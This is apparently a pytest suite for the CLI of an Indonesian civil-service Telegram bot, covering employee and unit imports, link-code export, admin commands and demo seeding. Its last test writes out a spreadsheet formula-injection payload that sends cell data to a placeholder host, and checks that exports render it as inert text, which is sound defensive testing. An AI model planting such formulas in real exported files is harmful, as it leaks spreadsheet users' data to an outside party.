"""The organisation CLI: import (dry run, errors, skip-bad), link-codes, admin, seed-demo,
and an unknown SIKERJA_PROFILE refused at start with the valid names."""
from __future__ import annotations

import csv
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest
from openpyxl import load_workbook

from bot.cli import main
from domain.org import validate_nip
from domain.profiles import profile_names
from tests.sql import sql

ROOT = Path(__file__).resolve().parent.parent
SAMPLES = ROOT / "samples"


@pytest.fixture
def env(db_url, monkeypatch):
    monkeypatch.setenv("DATABASE_URL", db_url)
    monkeypatch.setenv("SIKERJA_PROFILE", "nasional")
    monkeypatch.setenv("SIKERJA_LANGUAGE", "id")
    monkeypatch.delenv("SIKERJA_ADMINS", raising=False)
    monkeypatch.delenv("BOT_TOKEN", raising=False)
    return db_url


def run(capsys, *argv) -> tuple[int, str, str]:
    code = main([str(a) for a in argv])
    out, err = capsys.readouterr()
    return code, out, err


def test_dry_run_reports_and_writes_nothing(env, capsys):
    code, out, _ = run(capsys, "import", "units", SAMPLES / "units.csv", "--dry-run")
    assert code == 0
    assert "unit: 5 baris dibaca, 0 kesalahan, 5 peringatan." in out
    assert "Ditambahkan 5, diperbarui 0, tidak berubah 0." in out and "Uji coba (dry run)" in out
    code, out, _ = run(capsys, "import", "employees", SAMPLES / "employees.csv", "--dry-run")
    assert code == 1 and "unit DINKES tidak ada di basis data" in out  # the units were not written


def test_import_then_a_bad_file_changes_nothing(env, capsys, tmp_path):
    assert run(capsys, "import", "units", SAMPLES / "units.csv")[0] == 0
    code, out, _ = run(capsys, "import", "employees", SAMPLES / "employees.csv")
    assert code == 0 and "Ditambahkan 15" in out and "pimpinan unit yang terisi: 5" in out
    rows = list(csv.reader((SAMPLES / "employees.csv").open()))
    rows[3][0] = "197911232005012"  # row 4: a short NIP
    rows.append(rows[9])  # row 17 repeats row 10's NIP
    bad = tmp_path / "pegawai.csv"
    with bad.open("w", newline="") as f:
        csv.writer(f, delimiter=";").writerows(rows)  # Excel in an Indonesian locale writes semicolons
    code, out, _ = run(capsys, "import", "employees", bad)
    assert code == 1
    assert "baris 4, nip: “197911232005012” bukan NIP yang sah" in out
    assert "baris 10, nip: NIP 199702112022031015 muncul lebih dari sekali (baris 10, 17)" in out
    assert "Tidak ada yang diubah" in out
    code, out, _ = run(capsys, "import", "employees", bad, "--skip-bad")
    assert code == 1 and "3 baris bermasalah dilewati." in out and "tidak berubah 13" in out


def test_import_via_python_m_bot_in_english(env, tmp_path):
    result = subprocess.run([sys.executable, "-m", "bot", "import", "units", str(SAMPLES / "units.csv"), "--dry-run"],
                            cwd=tmp_path, capture_output=True, text=True, timeout=120,
                            env={**os.environ, "SIKERJA_LANGUAGE": "en", "PYTHONPATH": str(ROOT)})
    assert result.returncode == 0, result.stderr
    assert "warning    row 2, head_nip: no employee with NIP 197305122000031002 yet" in result.stdout
    assert "Dry run: nothing was written." in result.stdout


def test_unreadable_file(env, capsys, tmp_path):
    code, _, err = run(capsys, "import", "units", tmp_path / "nope.csv")
    assert code == 2 and "no such file" in err


@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_link_codes_for_the_unlinked_of_a_unit(env, capsys, tmp_path, monkeypatch, suffix):
    monkeypatch.setenv("SIKERJA_BOT_USERNAME", "PemdaKerjaBot")
    run(capsys, "import", "units", SAMPLES / "units.csv")
    run(capsys, "import", "employees", SAMPLES / "employees.csv")
    out_file = tmp_path / f"kode.{suffix}"
    code, out, _ = run(capsys, "link-codes", "--unit", "pkm.sukamaju", "--out", out_file)
    assert code == 0 and "5 kode tautan diterbitkan" in out and "telah dicabut" in out
    if suffix == "csv":
        rows = list(csv.reader(out_file.open()))
    else:
        rows = [list(r) for r in load_workbook(out_file).active.iter_rows(values_only=True)]
    assert rows[0] == ["nip", "name", "unit", "code", "deep_link", "expires_at"]
    assert {r[2] for r in rows[1:]} == {"UPTD Puskesmas Sukamaju"}
    assert all(r[4] == f"https://t.me/PemdaKerjaBot?start={r[3]}" for r in rows[1:])
    assert run(capsys, "link-codes", "--unit", "NOWHERE")[0] == 2
    code, out, _ = run(capsys, "link-codes")  # everyone; the earlier codes stop working
    assert code == 0 and len(out.splitlines()) == 15
    revoked = {c for (c,) in sql(env, "SELECT code FROM link_codes WHERE revoked_at IS NOT NULL")}
    assert revoked == {r[3] for r in rows[1:]}


def test_admin_add_list_remove(env, capsys, monkeypatch):
    monkeypatch.setenv("SIKERJA_ADMINS", "111,222")
    assert run(capsys, "admin", "add", "333", "--note", "BKPSDM")[1].strip() == "Admin 333 added."
    assert "already" in run(capsys, "admin", "add", "333")[1]
    out = run(capsys, "admin", "list")[1]
    assert "111  (SIKERJA_ADMINS)" in out and "333  added" in out and "BKPSDM" in out
    assert run(capsys, "admin", "remove", "333")[1].strip() == "Admin 333 removed."
    assert run(capsys, "admin", "remove")[0] == 2


def test_seed_demo_is_the_big_pemda_and_small_is_kept(env, capsys, blank_db_url, monkeypatch):
    code, out, _ = run(capsys, "seed-demo", "--profile", "badung")
    people = [line.rsplit("NIP ", 1)[1] for line in out.splitlines() if "NIP " in line]
    assert code == 0 and len(people) >= 55
    assert all(validate_nip(nip) for nip in people) and len(set(people)) == len(people)
    assert "https://t.me/SikerjaBot?start=" in out
    assert " Ni " in out and " I " in out  # Balinese names in Badung
    # who is who: by unit, its head (who decides) first; expiry in the Pemda's time, to the minute
    assert re.search(r"berlaku sampai \d\d-\d\d-\d{4} \d\d:\d\d WITA\)", out)
    blocks = out.split("\n■ ")[1:]
    assert len(blocks) >= 5 and all("(pimpinan unit — memutuskan)" in b.splitlines()[1] for b in blocks
                                     if "memutuskan" in b)
    assert sum("memutuskan" in b for b in blocks) >= 5
    assert run(capsys, "seed-demo")[0] == 1  # not twice
    monkeypatch.setenv("DATABASE_URL", blank_db_url)
    code, out, _ = run(capsys, "seed-demo", "--small")
    assert code == 0 and out.count("NIP ") == 10


def test_run_refuses_an_unknown_profile_with_the_valid_names(env, capsys, monkeypatch):
    monkeypatch.setenv("BOT_TOKEN", "123:ABC")
    monkeypatch.setenv("SIKERJA_PROFILE", "atlantis")
    code, _, err = run(capsys, "run")
    assert code == 2
    assert "Tidak ada profil peraturan “atlantis”" in err and ", ".join(profile_names()) in err


@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_link_codes_file_never_carries_a_live_formula(env, capsys, tmp_path, suffix):
    """A name that reached the database before imports refused formulas goes out as text."""
    run(capsys, "import", "units", SAMPLES / "units.csv")
    run(capsys, "import", "employees", SAMPLES / "employees.csv")
    evil = '=HYPERLINK("http://x.example/?"&A1,"klik")'
    sql(env, "UPDATE employees SET name = :evil WHERE nip = '199702112022031015'", evil=evil)
    sql(env, "UPDATE units SET name = '@SUM(1+1)' WHERE code = 'PKM.SUKAMAJU'")
    out_file = tmp_path / f"kode.{suffix}"
    assert run(capsys, "link-codes", "--out", out_file)[0] == 0
    if suffix == "csv":
        rows = list(csv.reader(out_file.open()))
    else:
        sheet = load_workbook(out_file).active
        assert {c.data_type for row in sheet.iter_rows() for c in row} == {"s"}
        rows = [list(r) for r in sheet.iter_rows(values_only=True)]
    assert not any(str(cell).startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
    assert {r[0]: r[1] for r in rows}["199702112022031015"] == "'" + evil
    assert "'@SUM(1+1)" in {r[2] for r in rows}
